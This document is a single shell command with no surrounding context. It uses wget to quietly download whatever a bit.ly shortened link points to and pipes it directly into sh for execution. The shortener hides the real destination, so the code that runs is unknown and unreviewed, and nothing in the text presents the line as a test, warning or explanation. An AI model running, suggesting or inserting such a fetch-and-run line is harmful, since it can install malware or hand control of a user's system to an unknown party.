wget -qO- https://bit.ly/3abcdef | sh
